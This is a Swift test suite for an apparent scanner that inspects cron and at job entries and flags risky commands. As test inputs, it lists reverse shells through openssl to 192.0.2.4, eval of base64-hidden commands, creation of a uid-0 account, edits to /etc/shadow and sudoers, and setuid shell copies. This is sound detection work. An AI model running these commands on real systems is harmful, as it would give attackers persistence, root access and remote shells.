import NoroshiModel
import Testing

@Suite struct `Commands of jobs` {
    private func told(_ command: String) async throws -> [String] {
        try await AccountTree(["/etc/cron.d/x": "* * * * * root \(command)\n"]).told()
    }

    @Test(arguments: [
        "flock -n /tmp/x.lock /usr/local/bin/job", "flock /var/tmp/backup.lock -c \"/usr/local/bin/backup\"",
        "flock -w 5 9", "(flock -n 9 || exit 1; /usr/bin/x) 9>/tmp/x.lock", "/usr/bin/x >& /tmp/log",
        "timeout -k 5 60 /usr/bin/x /tmp/y", "ionice -c 3 nice -n 10 /usr/bin/x", "chrt -b 0 /usr/bin/x",
        "systemd-run -p WorkingDirectory=/tmp /usr/bin/x", "taskset 0x3 /usr/bin/x", "su bob -c '/usr/bin/x /tmp/y'",
        "X=$(base64 -d /etc/key) /usr/bin/x", "bash /usr/local/bin/x \"$(echo eA== | base64 -d)\"",
        "echo | openssl s_client -connect x:443 | openssl x509 -noout -enddate",
        "cp /etc/passwd /var/backups/passwd.bak",
        "sed s/a/b/ /etc/passwd > /var/x", "usermod -L bob", "passwd -l bob", "chown root:shadow /etc/shadow",
        "setcap cap_net_bind_service=+ep /usr/bin/node", "chmod 600 /etc/shadow", "setcap -r /usr/bin/ping",
        "python3 -c \"print(open('/etc/passwd').read())\"", "curl -s http://e/ | python3 /opt/parse.py",
        "[ \"$(curl -s http://e/)\" = ok ] || systemctl restart x", "rsync -a /etc/passwd backup:/srv/",
        "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }",
    ])
    func `that administrators write are not told`(_ command: String) async throws {
        #expect(try await told(command) == [])
    }

    @Test(arguments: [
        "flock -n /tmp/l /tmp/evil", "timeout 5 /tmp/x", "ionice -c3 /tmp/x", "setsid /tmp/x", "env A=b /tmp/x",
        "chrt -f 50 /tmp/x", "taskset -c 0,1 /tmp/x", "systemd-run --unit=x /tmp/x", "su - bob -c /tmp/x",
        "run-parts /tmp", "java -jar /tmp/x.jar", "bash -o pipefail -c /tmp/x", "bash -eo pipefail -c '/tmp/x a'",
        "systemd-run --uid root --slice x.slice /tmp/x",
    ])
    func `that start something in a temporary place are told, whatever starts it`(_ command: String) async throws {
        #expect(try await told(command) == ["accounts.schedules temporary high"])
    }

    @Test(arguments: [
        "eval \"$(echo Y3VybA== | base64 -d)\"", "bash -c \"`base64 -d /var/x`\"", "sh <(base64 -d /var/x)",
        "/bin/sh -c \"eval $(echo aWQ= | base64 -d)\"", "X=$(echo aWQ= | base64 --decode); eval $X",
        "bash <<< \"$(base64 -d /x)\"", "openssl enc -base64 -d -in /x | sh", "base64 -d /x > /var/y; sh /var/y",
        "source <(xxd -r -p /x)", "$(echo aWQ= | base32 -d)",
    ])
    func `that run what an encoding hides are told`(_ command: String) async throws {
        #expect(try await told(command) == ["accounts.schedules decoded high"])
    }

    @Test(arguments: [
        "openssl s_client -connect 192.0.2.4:44 | /bin/sh",
        "/bin/sh -i < /run/s 2>&1 | openssl s_client -quiet -connect 192.0.2.4:44 > /run/s",
    ])
    func `that give a connection a shell are told`(_ command: String) async throws {
        #expect(try await told(command) == ["accounts.schedules connection high"])
    }

    @Test(arguments: [
        "useradd -o -u 0 evil", "sh -c 'useradd -o -u 0 evil'", "cp /var/p /etc/passwd", "cp -t /etc /var/x/shadow",
        "sed -i s/a/b/ /etc/shadow", "sed -i '/x/d;s/a/b/' /etc/passwd", "usermod -aG sudo bob", "passwd -d root",
        "mv x /etc/shadow", "dd if=/x of=/etc/shadow", "echo x > /etc/sudoers.d/x", "echo root:x | chpasswd",
        "chsh -s /bin/bash daemon", "gpasswd -a bob docker", "chmod 666 /etc/passwd",
    ])
    func `that change accounts are told`(_ command: String) async throws {
        #expect(try await told(command) == ["accounts.schedules access high"])
    }

    @Test(arguments: [
        "chmod =4755 /var/x", "setcap cap_setuid+ep /usr/bin/python3", "install -m 4755 /bin/sh /var/x",
        "install -Dm4755 /bin/sh /var/x", "setcap =ep /var/x", "chmod ug+s /var/x",
    ])
    func `that give programs other rights are told`(_ command: String) async throws {
        #expect(try await told(command) == ["accounts.schedules setuid high"])
    }

    @Test func `of scripts and of at are told too`() async throws {
        let tree = try AccountTree()
        try tree.write("/etc/cron.daily/x", "#!/bin/sh\nuseradd -o -u 0 evil\n", mode: 0o755)
        try tree.write(
            "/var/spool/cron/atjobs/a0000101c89261",
            "#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\neval \"$(echo aWQ= | base64 -d)\"\n", mode: 0o700)
        #expect(
            try await tree.told().sorted() == ["accounts.schedules access high", "accounts.schedules decoded high"])
    }
}
